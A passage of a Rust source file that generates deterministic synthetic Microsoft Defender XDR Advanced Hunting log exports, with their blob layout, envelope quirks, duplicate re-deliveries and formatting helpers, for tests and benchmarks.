//! Synthetic exports: writes a realistic, deterministic Microsoft Defender XDR
//! Advanced Hunting export in the storage-account layout, for tests,
//! benchmarks and the demo.
//!
//! ```text
//! <out>/insights-logs-advancedhunting-<table>/tenantId=<guid>/y=YYYY/m=MM/d=DD/h=HH/m=00/PT1H.json
//! ```
//!
//! What this module owns:
//!
//! - **Layout and framing** of a Streaming API export: one append blob per
//!   table and hour, compact JSON Lines ending in CRLF, one envelope per line
//!   (`time`, `tenantId`, `operationName`, `category`, `_TimeReceivedBySvc`,
//!   `properties`, `Tenant`) with the variations of
//!   `shared/reference/quirks.md` B: some lines lack `_TimeReceivedBySvc`
//!   and/or `Tenant`, a few have sorted keys. `time` lies inside the blob's
//!   hour, a little after the event's `Timestamp` (now and then hours after);
//!   every `Timestamp` lies inside `[start, start + hours)`.
//! - **Realistic rows**: every schema column of a table is written, typed the
//!   way real exports type it (quirks C and D): per-table timestamp precision,
//!   numeric `ReportId`s on Device tables (beyond 2^53 on DeviceInfo and
//!   DeviceNetworkInfo) and composite strings elsewhere, JSON held in strings
//!   next to native objects and arrays, `""` next to null, digit-string ids,
//!   dotted keys, non-ASCII text written raw or `\u`-escaped, varying
//!   `properties` key order. Device tables also carry the pipeline's
//!   `MachineGroup`, which no schema file lists. The values come from one
//!   simulated organisation (`World`): ~400 devices, ~300 people plus service,
//!   admin and built-in accounts, a process catalogue with realistic parent
//!   chains and command lines (a few of them malicious), and file, DLL,
//!   endpoint, URL, e-mail, cloud-app and alert pools drawn with Zipf-like
//!   skew, so hunting queries (a hash, a device, a user, a command line) hit
//!   several records.
//! - **Azure re-deliveries**: `duplicate_rate` of the lines repeat an earlier
//!   line's `category` and `properties` byte for byte under a new `time`
//!   (same or next hour, at most three re-deliveries of one record). Every
//!   other record is unique by construction: a per-table sequence number is
//!   folded into its `ReportId` (or `AlertId` / evidence entity), so the
//!   report's `records` count is exact.
//!
//! How: a table's columns are resolved once into value builders (`Gen`,
//! chosen by column name, then by kind for columns nobody told us about); per
//! record a table scenario picks the entities (device, process chain,
//! accounts, file, endpoint, message, alert ...) and the builders render the
//! columns from them into one reused buffer. Each table is an independent job
//! with its own ChaCha8 stream (seeded from the seed and the table name), so
//! tables are written in parallel and the output is still byte-identical for
//! the same options. The size budget is split over the tables by realistic
//! weights (device activity tables large, e-mail, identity and alert tables
//! small), with a small floor per table and hour, and spread evenly over the
//! hours; memory stays bounded (one line buffer and a small ring of recent
//! records per table).

use std::collections::{BTreeSet, VecDeque};
use std::fs::File;
use std::io::{BufWriter, Write as _};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

use jiff::Timestamp;
use jiff::tz::Offset;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::Serialize;

use crate::error::{Error, Result};
use crate::layout;
use crate::schema::{Catalog, Column, Kind, TableSchema};

// ─────────────────────────────── public API ───────────────────────────────

/// What to generate and where.
#[derive(Debug, Clone)]
pub struct GenerateOptions {
    /// Root directory; blobs go to `out/<container>/<blob path>`.
    pub out: PathBuf,
    /// Approximate total bytes to write (generation stops once reached).
    pub size_bytes: u64,
    /// The first hour (truncated to the hour).
    pub start: Timestamp,
    /// Number of hourly partitions the data spreads over.
    pub hours: u32,
    /// Seed of every random choice: the same options give the same bytes.
    pub seed: u64,
    /// Tables to write (matched case-insensitively); `None` = every table of the catalog.
    pub tables: Option<Vec<String>>,
    /// Share of lines that are Azure duplicate re-deliveries, in `[0, 1)`.
    pub duplicate_rate: f64,
    /// Tenant GUID used in paths and envelopes.
    pub tenant: String,
}

impl Default for GenerateOptions {
    fn default() -> Self {
        GenerateOptions {
            out: PathBuf::from("export"),
            size_bytes: 64 << 20,
            start: Timestamp::constant(DEFAULT_START_SECOND, 0),
            hours: 24,
            seed: 42,
            tables: None,
            duplicate_rate: 0.03,
            tenant: DEFAULT_TENANT.to_string(),
        }
    }
}

/// One blob written.
#[derive(Debug, Clone, Default, Serialize)]
pub struct BlobReport {
    pub container: String,
    pub blob: String,
    pub table: String,
    /// Lines written (records + duplicates).
    pub lines: u64,
    /// Unique records (first deliveries).
    pub records: u64,
    /// Lines that re-deliver an earlier record.
    pub duplicates: u64,
    pub bytes: u64,
}

/// Everything written, blob by blob (sorted by hour, then container).
#[derive(Debug, Clone, Default, Serialize)]
pub struct GenerateReport {
    pub blobs: Vec<BlobReport>,
    pub lines: u64,
    pub records: u64,
    pub duplicates: u64,
    pub bytes: u64,
}

/// Writes a synthetic export of the catalog's tables (or `opts.tables`) under
/// `opts.out`, and reports what it wrote.
pub fn generate(catalog: &Catalog, opts: &GenerateOptions) -> Result<GenerateReport> {
    if opts.hours == 0 {
        return Err(Error::Usage("generate: hours must be at least 1".into()));
    }
    if !(0.0..1.0).contains(&opts.duplicate_rate) {
        return Err(Error::Usage(format!(
            "generate: duplicate rate {} is outside [0, 1)",
            opts.duplicate_rate
        )));
    }
    if opts.tenant.is_empty() || opts.tenant.contains('/') {
        return Err(Error::Usage(format!(
            "generate: invalid tenant {:?}",
            opts.tenant
        )));
    }
    let schemas = select_tables(catalog, opts.tables.as_deref())?;
    let kinds: Vec<TableKind> = schemas.iter().map(|s| TableKind::of(&s.table)).collect();
    let weights: Vec<f64> = kinds.iter().map(|k| k.profile().weight).collect();
    let budgets = Budget::split(opts.size_bytes, &weights, opts.hours);
    let start = opts.start.as_second().div_euclid(3_600) * 3_600 * NANOS;
    let emails = kinds
        .iter()
        .position(|k| *k == TableKind::EmailEvents)
        .map_or(opts.size_bytes / 40, |i| budgets[i].total())
        / EMAIL_LINE_BYTES;
    let world = World::new(opts.seed, &opts.tenant, start, opts.hours, emails.max(100));
    std::fs::create_dir_all(&opts.out).map_err(|e| Error::io(&opts.out, e))?;

    // Largest tables first, so the parallel jobs finish together.
    let mut order: Vec<usize> = (0..schemas.len()).collect();
    order.sort_by_key(|&i| std::cmp::Reverse(budgets[i].total()));
    let next = AtomicUsize::new(0);
    let failed = AtomicBool::new(false);
    let threads = std::thread::available_parallelism()
        .map_or(1, |n| n.get())
        .clamp(1, schemas.len().max(1));
    let mut results: Vec<Option<Result<Vec<BlobReport>>>> = schemas.iter().map(|_| None).collect();
    std::thread::scope(|scope| {
        let workers: Vec<_> = (0..threads)
            .map(|_| {
                scope.spawn(|| {
                    let mut done = Vec::new();
                    loop {
                        let k = next.fetch_add(1, Ordering::Relaxed);
                        if k >= order.len() || failed.load(Ordering::Relaxed) {
                            break done;
                        }
                        let i = order[k];
                        let run = TableRun::new(&world, schemas[i], kinds[i], budgets[i], opts);
                        let result = run.write_all();
                        if result.is_err() {
                            failed.store(true, Ordering::Relaxed);
                        }
                        done.push((i, result));
                    }
                })
            })
            .collect();
        for worker in workers {
            let done = worker
                .join()
                .unwrap_or_else(|panic| std::panic::resume_unwind(panic));
            for (i, result) in done {
                results[i] = Some(result);
            }
        }
    });

    let mut report = GenerateReport::default();
    for result in results.into_iter().flatten() {
        report.blobs.extend(result?);
    }
    report
        .blobs
        .sort_by(|a, b| (&a.blob, &a.container).cmp(&(&b.blob, &b.container)));
    for b in &report.blobs {
        report.lines += b.lines;
        report.records += b.records;
        report.duplicates += b.duplicates;
        report.bytes += b.bytes;
    }
    Ok(report)
}

/// Parses sizes like "1GiB", "1G", "500MB", "64MiB", "10k", "1.5G", "12345"
/// (bytes). KB/MB/GB/TB are powers of 1000; KiB/MiB/GiB/TiB and bare
/// K/M/G/T are powers of 1024. Case-insensitive; a space before the unit is
/// allowed.
pub fn parse_size(s: &str) -> Option<u64> {
    let s = s.trim();
    let split = s
        .find(|c: char| !(c.is_ascii_digit() || c == '.'))
        .unwrap_or(s.len());
    let (number, unit) = s.split_at(split);
    let multiplier: u64 = match unit.trim().to_ascii_lowercase().as_str() {
        "" | "b" => 1,
        "k" | "kib" => 1 << 10,
        "m" | "mib" => 1 << 20,
        "g" | "gib" => 1 << 30,
        "t" | "tib" => 1 << 40,
        "kb" => 1_000,
        "mb" => 1_000_000,
        "gb" => 1_000_000_000,
        "tb" => 1_000_000_000_000,
        _ => return None,
    };
    if number.contains('.') {
        let bytes = (number.parse::<f64>().ok()? * multiplier as f64).round();
        (bytes.is_finite() && (0.0..u64::MAX as f64).contains(&bytes)).then_some(bytes as u64)
    } else {
        number.parse::<u64>().ok()?.checked_mul(multiplier)
    }
}

/// The catalog tables to write: all, or the named ones (canonical names,
/// each once, in catalog order).
fn select_tables<'c>(
    catalog: &'c Catalog,
    wanted: Option<&[String]>,
) -> Result<Vec<&'c TableSchema>> {
    let Some(names) = wanted else {
        return Ok(catalog.tables().collect());
    };
    let mut chosen = BTreeSet::new();
    for name in names {
        let table = catalog.canonical_table(name.trim()).ok_or_else(|| {
            let known: Vec<&str> = catalog.tables().map(|t| t.table.as_str()).collect();
            Error::Usage(format!(
                "generate: unknown table {name:?} (known: {})",
                known.join(", ")
            ))
        })?;
        chosen.insert(table);
    }
    if chosen.is_empty() {
        return Err(Error::Usage("generate: no table selected".into()));
    }
    Ok(chosen
        .into_iter()
        .filter_map(|t| catalog.table(t))
        .collect())
}

// ───────────────────────────────── driver ─────────────────────────────────

const NANOS: i64 = 1_000_000_000;
const HOUR: i64 = 3_600 * NANOS;
/// .NET ticks (100 ns since 0001-01-01) at the Unix epoch.
const TICKS_AT_UNIX_EPOCH: i64 = 621_355_968_000_000_000;
/// 2026-01-01T00:00:00Z.
const DEFAULT_START_SECOND: i64 = 1_767_225_600;
const DEFAULT_TENANT: &str = "3f2b8c41-9d7e-4a56-b1c3-7e8f90a1d2c4";
/// Each table gets at least this much per hour when the size allows (a few lines).
const FLOOR_BYTES_PER_HOUR: u64 = 6 << 10;
/// Typical EmailEvents line, to estimate how many messages the export holds.
const EMAIL_LINE_BYTES: u64 = 2_400;
/// Recent records a table can re-deliver.
const DUP_RING: usize = 32;
/// Azure writes a record at most four times (quirks A.6).
const MAX_REDELIVERIES: u8 = 3;
/// Records whose non-ASCII text is written `\u`-escaped (quirks D.12).
const UNICODE_ESCAPE_SHARE: f64 = 0.03;

/// A table's share of the size: cumulative byte targets per hour.
#[derive(Debug, Clone, Copy)]
struct Budget {
    floor: u64,
    share: u64,
    hours: u32,
}

impl Budget {
    /// Splits `size` bytes: a floor per table and hour (when the size allows),
    /// the rest by weight.
    fn split(size: u64, weights: &[f64], hours: u32) -> Vec<Budget> {
        let slots = weights.len() as u64 * u64::from(hours);
        let floor = (size / slots.max(1)).min(FLOOR_BYTES_PER_HOUR);
        let rest = size - floor * slots;
        let total: f64 = weights.iter().sum();
        weights
            .iter()
            .map(|w| Budget {
                floor,
                share: (rest as f64 * w / total) as u64,
                hours,
            })
            .collect()
    }

    /// Bytes the table should have written by the end of `hour`.
    fn target(&self, hour: u32) -> u64 {
        let h = u64::from(hour) + 1;
        self.floor * h + (u128::from(self.share) * u128::from(h) / u128::from(self.hours)) as u64
    }

    fn total(&self) -> u64 {
        self.target(self.hours - 1)
    }
}

/// One table being written, hour after hour.
struct TableRun<'a> {
    opts: &'a GenerateOptions,
    table: &'a str,
    container: String,
    budget: Budget,
    profile: Profile,
    scenario: fn(&mut Ctx<'_>),
    plan: Plan,
    ctx: Ctx<'a>,
    envelope: Envelope,
    ring: DupRing,
    line: String,
    seq: u64,
}

impl<'a> TableRun<'a> {
    fn new(
        world: &'a World,
        schema: &'a TableSchema,
        kind: TableKind,
        budget: Budget,
        opts: &'a GenerateOptions,
    ) -> Self {
        let salt = mix64(opts.seed ^ xxhash_rust::xxh3::xxh3_64(schema.table.as_bytes()));
        let mut rng = ChaCha8Rng::seed_from_u64(salt);
        let profile = kind.profile();
        let plan = Plan::build(schema, kind, &mut rng);
        let report_base = kind.report_base(world.start, salt);
        TableRun {
            opts,
            table: &schema.table,
            container: layout::container_for_table(&schema.table),
            budget,
            profile,
            scenario: kind.scenario(),
            plan,
            ctx: Ctx::new(world, rng, salt, report_base, TimeStyle::z(profile.digits)),
            envelope: Envelope {
                category: json_string(&format!("AdvancedHunting-{}", schema.table)),
                tenant: json_string(&opts.tenant),
                received: profile.received.style(),
            },
            ring: DupRing::default(),
            line: String::with_capacity(8 << 10),
            seq: 0,
        }
    }

    fn write_all(mut self) -> Result<Vec<BlobReport>> {
        let mut blobs = Vec::new();
        let mut written = 0u64;
        for hour in 0..self.budget.hours {
            let target = self.budget.target(hour);
            if written >= target {
                continue;
            }
            self.ring.forget_before(hour.saturating_sub(1));
            let hour_start = self.ctx.w.start + i64::from(hour) * HOUR;
            let blob = layout::blob_path(&self.opts.tenant, timestamp(hour_start));
            let path = self.opts.out.join(&self.container).join(&blob);
            let mut out = BufWriter::with_capacity(1 << 18, create_file(&path)?);
            let mut report = BlobReport {
                container: self.container.clone(),
                blob,
                table: self.table.to_string(),
                ..BlobReport::default()
            };
            let share = (target - written) as f64;
            while written < target {
                let time = self.envelope_time(hour_start, report.bytes as f64 / share);
                let duplicate = self.next_line(time, hour, hour_start + HOUR);
                out.write_all(self.line.as_bytes())
                    .map_err(|e| Error::io(&path, e))?;
                let n = self.line.len() as u64;
                report.lines += 1;
                report.bytes += n;
                written += n;
                if duplicate {
                    report.duplicates += 1;
                } else {
                    report.records += 1;
                }
            }
            out.flush().map_err(|e| Error::io(&path, e))?;
            blobs.push(report);
        }
        Ok(blobs)
    }

    /// The envelope `time` of the next line: it advances through the hour as
    /// the blob fills (an append blob), with a little jitter.
    fn envelope_time(&mut self, hour_start: i64, progress: f64) -> i64 {
        let offset = (progress.clamp(0.0, 1.0) * HOUR as f64) as i64;
        let t = (hour_start + offset + self.ctx.rng.random_range(0..2 * NANOS))
            .min(hour_start + HOUR - 100);
        t - t.rem_euclid(100)
    }

    /// Renders the next line into `self.line`; true when it re-delivers an
    /// earlier record.
    fn next_line(&mut self, time: i64, hour: u32, hour_end: i64) -> bool {
        let TableRun {
            opts,
            profile,
            scenario,
            plan,
            ctx,
            envelope,
            ring,
            line,
            seq,
            ..
        } = self;
        let shape = pick(&mut ctx.rng, SHAPES);
        if opts.duplicate_rate > 0.0
            && ctx.rng.random_bool(opts.duplicate_rate)
            && let Some(kept) = ring.pick(&mut ctx.rng)
        {
            // A re-delivery: same properties, a new time.
            let time = if time != kept.time {
                time
            } else if time + 100 < hour_end {
                time + 100
            } else {
                time - 100
            };
            kept.copies += 1;
            envelope.write(line, shape, time, kept.received, &kept.props);
            return true;
        }
        let ts = profile.event_time(&mut ctx.rng, time, ctx.w.start);
        ctx.ev = Event {
            seq: *seq,
            ts,
            ..Event::default()
        };
        *seq += 1;
        ctx.ascii = ctx.rng.random_bool(UNICODE_ESCAPE_SHARE);
        scenario(ctx);
        ctx.build_props(plan);
        let received = profile.received_time(&mut ctx.rng, ts, time);
        envelope.write(line, shape, time, received, &ctx.out);
        ring.keep(&ctx.out, time, received, hour);
        false
    }
}

fn create_file(path: &Path) -> Result<File> {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).map_err(|e| Error::io(dir, e))?;
    }
    File::create(path).map_err(|e| Error::io(path, e))
}

fn timestamp(nanos: i64) -> Timestamp {
    Timestamp::from_nanosecond(i128::from(nanos)).unwrap_or(Timestamp::UNIX_EPOCH)
}

/// Per-table timing and weight.
#[derive(Debug, Clone, Copy)]
struct Profile {
    /// Relative share of the export's bytes.
    weight: f64,
    /// Fractional digits of `Timestamp` (quirks C.1).
    digits: u8,
    /// Usual delay from event to write, in seconds (log-uniform between the two).
    lag: (f64, f64),
    /// Share of records written hours after their event.
    late: f64,
    received: Received,
}

/// How `_TimeReceivedBySvc` relates to the event.
#[derive(Debug, Clone, Copy)]
enum Received {
    /// Between `Timestamp` and `time`.
    Between,
    /// Equal to `Timestamp` (CloudAppEvents), without `Z` on Email tables (quirks C.2).
    Timestamp { zulu: bool },
}

impl Received {
    fn style(self) -> TimeStyle {
        match self {
            Received::Between => ENVELOPE_TIME,
            Received::Timestamp { zulu } => TimeStyle {
                zulu,
                ..ENVELOPE_TIME
            },
        }
    }
}

impl Profile {
    /// The event time of a record written at `time`: a lag before it,
    /// never before `start`, truncated to the table's precision.
    fn event_time(&self, rng: &mut ChaCha8Rng, time: i64, start: i64) -> i64 {
        let lag = if rng.random_bool(self.late) {
            rng.random_range(HOUR..26 * HOUR)
        } else {
            let (lo, hi) = (self.lag.0.ln(), self.lag.1.ln());
            ((lo + rng.random::<f64>() * (hi - lo)).exp() * NANOS as f64) as i64
        };
        let mut ts = time - lag;
        if ts < start {
            ts = start + rng.random_range(0..=time - start);
        }
        ts - ts.rem_euclid(TimeStyle::z(self.digits).unit())
    }

    fn received_time(&self, rng: &mut ChaCha8Rng, ts: i64, time: i64) -> i64 {
        match self.received {
            Received::Between => {
                let r = ts + ((time - ts) as f64 * rng.random_range(0.2..0.95)) as i64;
                r - r.rem_euclid(100)
            }
            Received::Timestamp { .. } => ts,
        }
    }
}

// ──────────────────────────────── envelope ────────────────────────────────

#[derive(Debug, Clone, Copy)]
enum Part {
    Time,
    TenantId,
    Operation,
    Category,
    Received,
    Properties,
    Tenant,
}

/// Key order and key set of an envelope (quirks B.2).
struct Shape {
    order: [Part; 7],
    received: bool,
    tenant: bool,
}

const USUAL: [Part; 7] = [
    Part::Time,
    Part::TenantId,
    Part::Operation,
    Part::Category,
    Part::Received,
    Part::Properties,
    Part::Tenant,
];
const SORTED: [Part; 7] = [
    Part::Tenant,
    Part::Received,
    Part::Category,
    Part::Operation,
    Part::Properties,
    Part::TenantId,
    Part::Time,
];

const SHAPES: &[(Shape, u16)] = &[
    (
        Shape {
            order: USUAL,
            received: true,
            tenant: true,
        },
        88,
    ),
    (
        Shape {
            order: USUAL,
            received: true,
            tenant: false,
        },
        5,
    ),
    (
        Shape {
            order: USUAL,
            received: false,
            tenant: true,
        },
        3,
    ),
    (
        Shape {
            order: USUAL,
            received: false,
            tenant: false,
        },
        2,
    ),
    (
        Shape {
            order: SORTED,
            received: true,
            tenant: true,
        },
        2,
    ),
];

/// The per-table constant parts of an envelope, JSON-encoded.
struct Envelope {
    category: String,
    tenant: String,
    received: TimeStyle,
}

impl Envelope {
    fn write(&self, line: &mut String, shape: &Shape, time: i64, received: i64, props: &str) {
        line.clear();
        line.push('{');
        for part in shape.order {
            match part {
                Part::Received if !shape.received => continue,
                Part::Tenant if !shape.tenant => continue,
                _ if line.len() > 1 => line.push(','),
                _ => {}
            }
            match part {
                Part::Time => {
                    line.push_str("\"time\":\"");
                    push_time(line, time, ENVELOPE_TIME);
                    line.push('"');
                }
                Part::TenantId => {
                    line.push_str("\"tenantId\":");
                    line.push_str(&self.tenant);
                }
                Part::Operation => line.push_str("\"operationName\":\"Publish\""),
                Part::Category => {
                    line.push_str("\"category\":");
                    line.push_str(&self.category);
                }
                Part::Received => {
                    line.push_str("\"_TimeReceivedBySvc\":\"");
                    push_time(line, received, self.received);
                    line.push('"');
                }
                Part::Properties => {
                    line.push_str("\"properties\":");
                    line.push_str(props);
                }
                Part::Tenant => line.push_str("\"Tenant\":\"DefaultTenant\""),
            }
        }
        line.push_str("}\r\n");
    }
}

/// A record kept for re-delivery.
#[derive(Default)]
struct Kept {
    props: String,
    time: i64,
    received: i64,
    hour: u32,
    copies: u8,
}

/// The last few records of a table, which Azure may write again.
#[derive(Default)]
struct DupRing {
    items: VecDeque<Kept>,
}

impl DupRing {
    fn keep(&mut self, props: &str, time: i64, received: i64, hour: u32) {
        let mut slot = if self.items.len() >= DUP_RING {
            self.items.pop_front().unwrap_or_default()
        } else {
            Kept::default()
        };
        slot.props.clear();
        slot.props.push_str(props);
        slot.time = time;
        slot.received = received;
        slot.hour = hour;
        slot.copies = 0;
        self.items.push_back(slot);
    }

    fn forget_before(&mut self, hour: u32) {
        while self.items.front().is_some_and(|k| k.hour < hour) {
            self.items.pop_front();
        }
    }

    /// A recent record (the more recent, the likelier) that may be written again.
    fn pick(&mut self, rng: &mut ChaCha8Rng) -> Option<&mut Kept> {
        let n = self.items.len();
        if n == 0 {
            return None;
        }
        let age = rng.random_range(0..n).min(rng.random_range(0..n));
        let kept = &mut self.items[n - 1 - age];
        (kept.copies < MAX_REDELIVERIES).then_some(kept)
    }
}

// ──────────────────────────── text primitives ────────────────────────────

/// How a timestamp is written: fractional digits (0-7), trailing zeros
/// dropped or not, `Z` or no offset.
#[derive(Debug, Clone, Copy)]
struct TimeStyle {
    digits: u8,
    trim: bool,
    zulu: bool,
}

impl TimeStyle {
    const fn z(digits: u8) -> Self {
        TimeStyle {
            digits,
            trim: false,
            zulu: true,
        }
    }

    /// The smallest step the style can show, in nanoseconds.
    const fn unit(self) -> i64 {
        10i64.pow(9 - self.digits as u32)
    }
}

/// `time`: 7 digits and `Z`.
const ENVELOPE_TIME: TimeStyle = TimeStyle::z(7);
/// Some derived columns: up to 6 digits, trailing zeros dropped (quirks C.1).
const TRIMMED_TIME: TimeStyle = TimeStyle {
    digits: 6,
    trim: true,
    zulu: true,
};

fn push_time(out: &mut String, nanos: i64, style: TimeStyle) {
    let dt = Offset::UTC.to_datetime(timestamp(nanos));
    push_padded(out, dt.year() as u64, 4);
    out.push('-');
    push_padded(out, dt.month() as u64, 2);
    out.push('-');
    push_padded(out, dt.day() as u64, 2);
    out.push('T');
    push_padded(out, dt.hour() as u64, 2);
    out.push(':');
    push_padded(out, dt.minute() as u64, 2);
    out.push(':');
    push_padded(out, dt.second() as u64, 2);
    let mut digits = usize::from(style.digits);
    let mut fraction = nanos.rem_euclid(NANOS) as u64 / 10u64.pow(9 - u32::from(style.digits));
    if style.trim {
        while digits > 0 && fraction.is_multiple_of(10) {
            fraction /= 10;
            digits -= 1;
        }
    }
    if digits > 0 {
        out.push('.');
        push_padded(out, fraction, digits);
    }
    if style.zulu {
        out.push('Z');
    }
}

/// Writes the `width` lowest decimal digits of `v`, zero-padded.
fn push_padded(out: &mut String, mut v: u64, width: usize) {
    let mut buf = [b'0'; 20];
    let start = buf.len() - width.min(20);
    for b in buf[start..].iter_mut().rev() {
        *b = b'0' + (v % 10) as u8;
        v /= 10;
    }
    out.push_str(std::str::from_utf8(&buf[start..]).unwrap_or_default());
}

fn push_u64(out: &mut String, v: u64) {
    let digits = v.checked_ilog10().map_or(1, |d| d as usize + 1);
    push_padded(out, v, digits);
}

fn push_i64(out: &mut String, v: i64) {
    if v < 0 {
        out.push('-');
    }
    push_u64(out, v.unsigned_abs());
}

/// JSON-escapes `s` (without quotes). With `ascii`, non-ASCII characters are
/// written as `\uXXXX` escapes (quirks D.12), else raw.
fn push_escaped(out: &mut String, s: &str, ascii: bool) {
    if ascii && !s.is_ascii() {
        for ch in s.chars() {
            match ch {
                '"' => out.push_str("\\\""),
                '\\' => out.push_str("\\\\"),
                c if c.is_ascii() && c >= ' ' => out.push(c),
                c => {
                    for unit in c.encode_utf16(&mut [0; 2]) {
                        push_unicode_escape(out, *unit);
                    }
                }
            }
        }
        return;
    }
    let mut start = 0;
    for (i, &b) in s.as_bytes().iter().enumerate() {
        if b >= 0x20 && b != b'"' && b != b'\\' {
            continue;
        }
        out.push_str(&s[start..i]);
        match b {
            b'"' => out.push_str("\\\""),
            b'\\' => out.push_str("\\\\"),
            b'\n' => out.push_str("\\n"),
            b'\r' => out.push_str("\\r"),
            b'\t' => out.push_str("\\t"),
            _ => push_unicode_escape(out, u16::from(b)),
        }
        start = i + 1;
    }
    out.push_str(&s[start..]);
}

fn push_unicode_escape(out: &mut String, unit: u16) {
    out.push_str("\\u");
    push_hex(out, u64::from(unit), 4, false);
}

fn push_json_str(out: &mut String, s: &str, ascii: bool) {
    out.push('"');
    push_escaped(out, s, ascii);
    out.push('"');
}

fn json_string(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    push_json_str(&mut out, s, false);
    out
}

/// Writes the `digits` lowest hex digits of `v` (at most 16).
fn push_hex(out: &mut String, v: u64, digits: usize, upper: bool) {
    let alphabet = if upper {
        b"0123456789ABCDEF"
    } else {
        b"0123456789abcdef"
    };
    for i in (0..digits.min(16)).rev() {
        out.push(char::from(alphabet[((v >> (i * 4)) & 0xf) as usize]));
    }
}

/// `digits` pseudo-random hex digits derived from `key` (hashes, serials).
fn push_hash(out: &mut String, key: u64, digits: usize) {
    let mut left = digits;
    let mut block = 0u64;
    while left > 0 {
        let n = left.min(16);
        push_hex(out, mix64(key.wrapping_add(block)), n, false);
        left -= n;
        block += 1;
    }
}

fn hash_hex(key: u64, digits: usize) -> String {
    let mut s = String::with_capacity(digits);
    push_hash(&mut s, key, digits);
    s
}

/// A version-4-looking GUID that holds all 64 bits of `hi` (so distinct `hi`
/// give distinct GUIDs) and 48-odd bits of `lo`.
fn push_guid(out: &mut String, hi: u64, lo: u64, upper: bool) {
    push_hex(out, hi >> 32, 8, upper);
    out.push('-');
    push_hex(out, hi >> 16, 4, upper);
    out.push('-');
    push_hex(out, 0x4000 | ((hi >> 4) & 0x0fff), 4, upper);
    out.push('-');
    push_hex(
        out,
        0x8000 | ((lo >> 62) << 12) | ((hi & 0xf) << 8) | ((lo >> 48) & 0xff),
        4,
        upper,
    );
    out.push('-');
    push_hex(out, lo, 12, upper);
}

fn guid(hi: u64, lo: u64) -> String {
    let mut s = String::with_capacity(36);
    push_guid(&mut s, hi, lo, false);
    s
}

/// SplitMix64's finalizer: a bijection on u64 with good mixing.
const fn mix64(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

fn hash2(a: u64, b: u64) -> u64 {
    mix64(a ^ mix64(b.wrapping_add(0x9e37_79b9_7f4a_7c15)))
}

fn hash3(a: u64, b: u64, c: u64) -> u64 {
    hash2(hash2(a, b), c)
}

/// A uniform number in [0, 1) from a hash.
fn unit(h: u64) -> f64 {
    (h >> 11) as f64 / (1u64 << 53) as f64
}

/// A weighted choice from a static table, driven by a hash.
fn pick_at<T>(items: &[(T, u16)], h: u64) -> &T {
    let total: u64 = items.iter().map(|(_, w)| u64::from(*w)).sum();
    let mut x = h % total.max(1);
    for (item, w) in items {
        let w = u64::from(*w);
        if x < w {
            return item;
        }
        x -= w;
    }
    &items[items.len() - 1].0
}

fn pick<'a, T>(rng: &mut ChaCha8Rng, items: &'a [(T, u16)]) -> &'a T {
    pick_at(items, rng.random())
}

/// A weighted choice among indices (`Cdf`) mapped to ids.
#[derive(Default)]
struct Pool {
    ids: Vec<u32>,
    cum: Vec<f64>,
}

impl Pool {
    fn new(items: impl IntoIterator<Item = (usize, f64)>) -> Self {
        let mut pool = Pool::default();
        let mut total = 0.0;
        for (id, w) in items {
            if w > 0.0 {
                total += w;
                pool.ids.push(id as u32);
                pool.cum.push(total);
            }
        }
        pool
    }

    /// Zipf-like weights (1/rank^s) over `n` ids, ranks shuffled.
    fn zipf(n: usize, s: f64, rng: &mut ChaCha8Rng) -> Self {
        let mut ranks: Vec<usize> = (0..n).collect();
        ranks.shuffle(rng);
        Pool::new(
            ranks
                .into_iter()
                .enumerate()
                .map(|(id, r)| (id, 1.0 / ((r + 1) as f64).powf(s))),
        )
    }

    fn is_empty(&self) -> bool {
        self.ids.is_empty()
    }

    /// The id at quantile `u` in [0, 1).
    fn at(&self, u: f64) -> usize {
        let total = self.cum.last().copied().unwrap_or(0.0);
        let i = self.cum.partition_point(|&c| c <= u * total);
        self.ids
            .get(i.min(self.ids.len().saturating_sub(1)))
            .map_or(0, |&id| id as usize)
    }

    fn sample(&self, rng: &mut ChaCha8Rng) -> usize {
        self.at(rng.random())
    }
}

// ─────────────────────────────── records ───────────────────────────────

/// Process roles in a record.
const TARGET: usize = 0;
const INIT: usize = 1;
const PARENT: usize = 2;
/// Account roles in a record (`INIT` is the initiating process's account).
const SUBJECT: usize = 0;
const REQUEST: usize = 2;
const TARGET_ACCOUNT: usize = 3;

/// A running process: its catalogue entry and instance details.
#[derive(Debug, Clone, Copy, Default)]
struct ProcInst {
    spec: u16,
    pid: u32,
    created: i64,
    key: u64,
    user: u16,
}

/// Where a file's name, path and hashes come from.
#[derive(Debug, Clone, Copy)]
enum FileRef {
    Proc(u16),
    Pool(u32),
    Dll(u16),
}

/// A connection: the far end (an endpoint) and the ports.
#[derive(Debug, Clone, Copy, Default)]
struct NetRef {
    remote: Option<u32>,
    local_port: u16,
    remote_port: u16,
    /// A full URL (from the URL pool) rather than the host name in `RemoteUrl`.
    url: Option<u32>,
    udp: bool,
}

/// The entities of one record, chosen by the table's scenario and read by the
/// column builders.
#[derive(Debug, Clone, Copy, Default)]
struct Event {
    seq: u64,
    ts: i64,
    device: Option<u16>,
    /// A second device: SMB client, logon source, domain controller.
    peer: Option<u16>,
    action: &'static str,
    procs: [Option<ProcInst>; 3],
    accts: [Option<u16>; 4],
    file: Option<FileRef>,
    /// The file was renamed (DeviceFileEvents) / a previous value exists (registry).
    previous: bool,
    net: Option<NetRef>,
    reg: Option<u16>,
    /// Download origin (URL pool index).
    origin: Option<u32>,
    msg: Option<Msg>,
    alert: Option<AlertRef>,
    /// Index into the table's own spec list (logon kind, device event, cloud action ...).
    spec: u16,
    app: u16,
    geo: u8,
    flag: bool,
}

/// The per-table rendering context: the world, the table's random stream,
/// the current record and the output buffers.
struct Ctx<'w> {
    w: &'w World,
    rng: ChaCha8Rng,
    /// Per-table salt for derived identifiers.
    salt: u64,
    report_base: u64,
    ts_style: TimeStyle,
    ev: Event,
    /// Escape non-ASCII in this record.
    ascii: bool,
    /// The `properties` object being built.
    out: String,
    tmp: String,
    val: String,
    /// The process whose command line is being rendered (for `{{user}}`, `{{self}}`).
    tpl_proc: Option<ProcInst>,
    /// AlertEvidence: the alert being described and its next entity.
    cursor: (u64, usize),
}

impl<'w> Ctx<'w> {
    fn new(
